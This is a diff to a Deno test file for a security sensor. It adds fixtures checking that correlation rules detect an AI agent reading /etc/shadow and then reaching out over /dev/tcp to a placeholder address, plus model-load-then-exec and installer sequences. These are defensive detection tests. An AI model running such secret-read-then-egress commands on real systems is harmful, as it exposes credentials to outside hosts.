@@ -91,7 +91,42 @@ const NEAR_MISSES: readonly Deed[] = [
   { rule: "ai/agent_decoded_payload", script: "bash -c ': base64 -d x'; true", called: MCP },
 ];
 
-const PACKS = ["ai", "linux"];
+const PACKS = ["ai", "correlations", "linux"];
+const AGENT = ".local/share/claude/versions/2.0.0";
+
+/** What correlations have to see. */
+const SEQUENCES: readonly Deed[] = [
+  {
+    rule: "correlations/agent_secret_then_egress",
+    program: AGENT,
+    script: "cat /etc/shadow; timeout 0.2 bash -c ': >/dev/tcp/203.0.113.7/443'; true",
+  },
+  {
+    rule: "correlations/model_load_then_execution",
+    program: "python3",
+    script: ": <$MODEL; bash -c ': id'; true",
+  },
+  {
+    rule: "correlations/installer_runtime_sequence",
+    script: "tar --version; $DIR/bun x.js; true",
+    called: "npm install",
+  },
+];
+
+/** The same parts, in other relations. */
+const OTHER_SEQUENCES: readonly Deed[] = [
+  {
+    rule: "correlations/agent_secret_then_egress",
+    program: AGENT,
+    script: "timeout 0.2 bash -c ': >/dev/tcp/203.0.113.7/443'; cat /etc/shadow; true",
+  },
+  { rule: "correlations/model_load_then_execution", program: "python3", script: ": <$MODEL" },
+  {
+    rule: "correlations/model_load_then_execution",
+    program: "python3",
+    script: "bash -c ': id'; true",
+  },
+];
 
 Deno.test({
   name: "sensor: AI pack: real processes raise the alert of each rule that records can feed",
@@ -116,4 +151,19 @@ Deno.test({
     const seen = await seenOf(COSTLY_DEEDS, options);
     assertEquals(COSTLY_DEEDS.filter(({ rule }) => !seen.has(rule)), []);
   },
+});
+
+Deno.test({
+  name: "sensor: correlations: real processes raise the alerts of sequences",
+  ignore,
+  fn: async () => {
+    const seen = await seenOf(SEQUENCES, { packs: PACKS });
+    assertEquals(SEQUENCES.filter(({ rule }) => !seen.has(rule)), []);
+  },
+});
+
+Deno.test({
+  name: "sensor: correlations: real processes in another order, or alone, raise none",
+  ignore,
+  fn: async () => assertEquals(await seenOf(OTHER_SEQUENCES, { packs: PACKS }), new Set()),
 });
